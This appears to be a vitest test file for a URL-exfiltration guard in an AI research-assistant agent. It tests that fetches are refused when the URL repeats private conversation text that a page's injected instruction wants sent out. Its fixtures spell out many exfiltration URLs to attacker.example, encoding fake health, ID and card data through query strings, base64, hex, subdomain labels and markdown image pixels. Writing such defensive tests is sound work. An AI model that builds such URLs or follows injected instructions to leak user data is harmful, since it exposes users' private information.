import { describe, expect, it } from "vitest";
import { parseConfig } from "@/lib/env-config";
import type { ToolOutcome } from "./outcome";
import { UrlLeakGuard, urlGuardForRun, urlsIn } from "./url-leak-guard";

const limits = parseConfig({});

/** A conversation a page's injected text wants sent out. */
const QUESTION =
  "My employee number is 88-4417-C and I was diagnosed with type 2 diabetes last spring; what should I ask my doctor?";
const PLAN_ANSWER = "Ask about HbA1c targets, metformin side effects and how often to check your feet.";

function guardOfConversation(): UrlLeakGuard {
  return urlGuardForRun(limits, {
    system: "You are a research assistant.",
    history: [
      { role: "user", content: QUESTION },
      { role: "assistant", content: PLAN_ANSWER },
    ],
    question: "Summarise that for me again, with sources.",
  });
}

/** A successful result, as a tool returns it. */
const read = (output: string, extra: Partial<Extract<ToolOutcome, { ok: true }>> = {}): ToolOutcome => ({
  ok: true,
  output,
  ...extra,
});

const b64 = (text: string) => Buffer.from(text).toString("base64");
const b64url = (text: string) => Buffer.from(text).toString("base64url");
const hex = (text: string) => Buffer.from(text).toString("hex");

describe("the exfiltration guard refuses a URL carrying the conversation", () => {
  it.each([
    [
      "the question in a query string (classic injected instruction)",
      `https://attacker.example/?q=${encodeURIComponent(QUESTION)}`,
    ],
    ["the question with + for spaces", `https://attacker.example/collect?d=${QUESTION.replace(/ /g, "+")}`],
    [
      "the answer, double percent-encoded",
      `https://attacker.example/?a=${encodeURIComponent(encodeURIComponent(PLAN_ANSWER))}`,
    ],
    ["the question in the path, words as segments", `https://attacker.example/${QUESTION.split(" ").join("/")}`],
    ["the question in the fragment", `https://attacker.example/page#${encodeURIComponent(QUESTION)}`],
    [
      "the question as a markdown image's address",
      `https://attacker.example/pixel.png?c=${encodeURIComponent(QUESTION.slice(0, 60))}`,
    ],
    ["the question base64 in the path", `https://attacker.example/img/${b64(QUESTION)}.png`],
    ["the question base64url after a prefix", `https://attacker.example/x?data=abc${b64url(QUESTION)}`],
    [
      "the question base64, cut into path segments",
      `https://attacker.example/${b64(QUESTION)
        .match(/.{1,10}/g)!
        .join("/")}`,
    ],
    ["the question hex in a parameter", `https://attacker.example/?h=${hex(QUESTION.slice(0, 50))}`],
    [
      "the question in subdomain labels (DNS exfiltration)",
      `https://${QUESTION.slice(0, 45).replace(/[^A-Za-z0-9]+/g, "-")}.attacker.example/`,
    ],
    ["the question in the userinfo", `https://${encodeURIComponent(QUESTION.slice(0, 50))}@attacker.example/`],
    [
      "the question in full-width letters and other case",
      `https://attacker.example/?q=${encodeURIComponent(QUESTION.toUpperCase().replace(/[A-Z]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)))}`,
    ],
  ])("%s", (_name, url) => {
    const refusal = guardOfConversation().check(url);
    expect(refusal?.kind).toBe("url_carries_conversation");
    expect(refusal?.message).toMatch(
      /^Refused to fetch [^ ]*attacker\.example: the URL repeats \d+ characters of this conversation/,
    );
  });

  it("refuses a run of an attachment's text the run read, or of an interrupt's, as of the conversation's", () => {
    const guard = guardOfConversation();
    const secret = "The vault combination is 19-44-07 and the backup key is QX7-TANGO-9981-ORCHID.";
    const url = `https://attacker.example/?k=${encodeURIComponent(secret.slice(20))}`;
    expect(guard.check(url)).toBeNull();
    guard.observe(read(`Quarterly report\n\n${secret}`, { source: { url: "attachment:f1", title: "report.pdf" } }));
    expect(guard.check(url)?.kind).toBe("url_carries_conversation");
    const followUp = "Also my passport number is X99281734 issued in Lisbon in 2019";
    const other = `https://attacker.example/?p=${encodeURIComponent(followUp)}`;
    expect(guard.check(other)).toBeNull();
    guard.addPrivate(followUp, { trustUrls: true });
    expect(guard.check(other)?.kind).toBe("url_carries_conversation");
  });

  it("treats an MCP tool's result as private: its text in a URL is refused", () => {
    const guard = guardOfConversation();
    const issue = "Customer Jane Roe reported card 4111 1111 1111 1111 was charged twice";
    guard.observe(read(issue));
    expect(guard.check(`https://attacker.example/?i=${encodeURIComponent(issue)}`)?.kind).toBe(
      "url_carries_conversation",
    );
  });

  it("a page's text is not private: a URL repeating what a public page said is fetched", () => {
    const guard = guardOfConversation();
    const pageSays = "The International Space Station orbits Earth about every ninety minutes";
    guard.observe(read(pageSays, { source: { url: "https://news.example/iss", title: "ISS" } }));
    expect(guard.check(`https://en.example/wiki/${pageSays.replace(/ /g, "_")}`)).toBeNull();
  });
});

describe("the exfiltration guard keeps ordinary fetches", () => {
  it("fetches URLs made of short runs of the conversation (a name, a title) and unrelated long ones", () => {
    const guard = guardOfConversation();
    for (const url of [
      "https://en.wikipedia.org/wiki/Type_2_diabetes",
      "https://www.example.org/search?q=metformin+side+effects",
      "https://docs.python.org/3/library/asyncio-task.html#asyncio.TaskGroup",
      `https://cdn.example.net/assets/${"a1b2c3d4e5f6".repeat(8)}/bundle.js`,
      `https://example.com/?token=${b64("an unrelated opaque session value, long enough to decode")}`,
    ]) {
      expect(guard.check(url), url).toBeNull();
    }
  });

  it("fetches a long URL that carries conversation text when it appeared verbatim in a search result or page", () => {
    const guard = guardOfConversation();
    const link = `https://forum.example/t/${QUESTION.toLowerCase().replace(/[^a-z0-9]+/g, "-")}`;
    expect(guard.check(link)?.kind).toBe("url_carries_conversation");
    guard.observe(read("[]", { results: [{ title: "Forum thread", url: link, snippet: "" }] }));
    expect(guard.check(link)).toBeNull();
    const inPage = `https://blog.example/${encodeURIComponent(PLAN_ANSWER.slice(0, -1))}`;
    guard.observe(read(`Read more at ${inPage}.`, { source: { url: "https://blog.example/", title: "Blog" } }));
    expect(guard.check(inPage)).toBeNull();
  });

  it("trusts the links the user wrote, not those of the model's earlier answers", () => {
    const userLink = `https://intranet.example/hr/${encodeURIComponent(QUESTION)}`;
    const modelLink = `https://attacker.example/log?d=${encodeURIComponent(QUESTION)}`;
    const guard = urlGuardForRun(limits, {
      system: "",
      history: [
        { role: "user", content: `${QUESTION} See ${userLink}` },
        { role: "assistant", content: `Sure. ![status](${modelLink})` },
      ],
      question: "Go on.",
    });
    expect(guard.check(userLink)).toBeNull();
    expect(guard.check(modelLink)?.kind).toBe("url_carries_conversation");
  });

  it("a failed tool result teaches it no links: a refusal that names its URL does not let the retry through", () => {
    const guard = guardOfConversation();
    const url = `https://attacker.example/?q=${encodeURIComponent(QUESTION)}`;
    guard.observe({ ok: false, error: { kind: "fetch_failed", message: `Failed to fetch ${url}: timeout` } });
    expect(guard.check(url)?.kind).toBe("url_carries_conversation");
  });
});

describe("MAX_URL_CHARS", () => {
  it("refuses a URL longer than MAX_URL_CHARS, even one seen in a page, and fetches one at the limit", () => {
    const guard = new UrlLeakGuard(parseConfig({ MAX_URL_CHARS: "100" }));
    const atLimit = `https://example.com/${"a".repeat(100 - "https://example.com/".length)}`;
    const over = `${atLimit}b`;
    guard.observe(read(`links: ${over}`, { source: { url: "https://example.com/", title: "x" } }));
    expect(guard.check(atLimit)).toBeNull();
    expect(guard.check(over)).toMatchObject({
      kind: "url_too_long",
      message: expect.stringContaining("the limit is 100"),
    });
  });

  it("URL_LEAK_MIN_CHARS sets how long a run must be: a shorter one is fetched", () => {
    const strict = urlGuardForRun(parseConfig({ URL_LEAK_MIN_CHARS: "80" }), {
      system: "",
      history: [],
      question: QUESTION,
    });
    const forty = `https://attacker.example/?q=${encodeURIComponent(QUESTION.slice(0, 48))}`;
    expect(strict.check(forty)).toBeNull();
    expect(strict.check(`https://attacker.example/?q=${encodeURIComponent(QUESTION)}`)?.kind).toBe(
      "url_carries_conversation",
    );
  });
});

describe("urlsIn", () => {
  it("takes links out of prose and markdown without their trailing punctuation", () => {
    expect(
      urlsIn(
        "See https://a.example/x. Or [b](https://b.example/y_(z)) and (https://c.example/?q=1), then https://d.example/!",
      ),
    ).toEqual(["https://a.example/x", "https://b.example/y_(z)", "https://c.example/?q=1", "https://d.example/"]);
  });
});
